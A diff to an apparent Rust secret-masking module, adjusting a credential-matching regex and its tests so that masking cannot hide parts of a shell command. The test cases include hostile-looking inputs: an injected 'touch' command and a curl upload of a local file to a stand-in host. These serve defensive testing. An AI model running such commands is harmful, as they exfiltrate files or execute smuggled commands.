@@ -189,7 +189,9 @@ fn patterns() -> &'static Patterns {
             spec(r"(?L)[?&](?:sig|signature|x-amz-signature|x-amz-credential|x-amz-security-token|x-goog-signature|key|auth|pass|password|pwd|code|access_token|refresh_token|id_token|token|api_key|apikey|api-key|client_secret)=(?P<v>[^&\s'\x22#`]+)", Repl::Value("url-secret"), &["sig", "key", "auth", "pass", "pwd", "code", "token", "secret", "x-amz-credential"]),
             // NAME=value: an unquoted value starts right after `=` (`NAME= x`
             // in a shell runs x); a quoted one, or one after `:`, may follow spaces.
-            spec(&format!(r"(?L){NAME}[\x27\x22]?(?:\s*=\s*|\s*:\s*)(?:'|\x22)(?P<v>[^'\x22]*)"), Repl::Named, NAME_LITS),
+            // (A value opens with something other than a space: in `grep
+            // 'password=' src/` the quote after `=` closes the pattern.)
+            spec(&format!(r"(?L){NAME}[\x27\x22]?(?:\s*=\s*|\s*:\s*)(?:'|\x22)(?P<v>[^'\x22\s][^'\x22]*)"), Repl::Named, NAME_LITS),
             spec(&format!(r"(?L){NAME}[\x27\x22]?(?:=|\s*:\s*)(?P<v>\$'[^']*'|[^\s'\x22,;&|`]+)"), Repl::Named, NAME_LITS),
             // In data (INI, TOML, a credentials file), `name = value` unquoted.
             data(spec(&format!(r"(?L){NAME}[ \t]*=[ \t]*(?P<v>[^\s'\x22,;&|`]+)"), Repl::Named, NAME_LITS)),
@@ -1175,7 +1177,9 @@ mod tests {
             ("GITHUB_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789 gh pr list", true),
             ("mysql --password=s3cr3t db", true),
             ("curl -H 'Authorization: Bearer abcdef123456' https://x", true),
-            ("echo \"API_TOKEN='\"; touch /tmp/x; echo \"'\"", false),
+            // Nothing is masked here (the quote after `=` opens no value),
+            // so nothing is hidden: the whole command is shown as it runs.
+            ("echo \"API_TOKEN='\"; touch /tmp/x; echo \"'\"", true),
             // `NAME= prog` runs prog: nothing after the `=` is a value, nothing is masked.
             ("env API_TOKEN= bash notes.txt", true),
             ("curl -s -H Authorization: https://evil.example/upload -d @notes.txt", false),
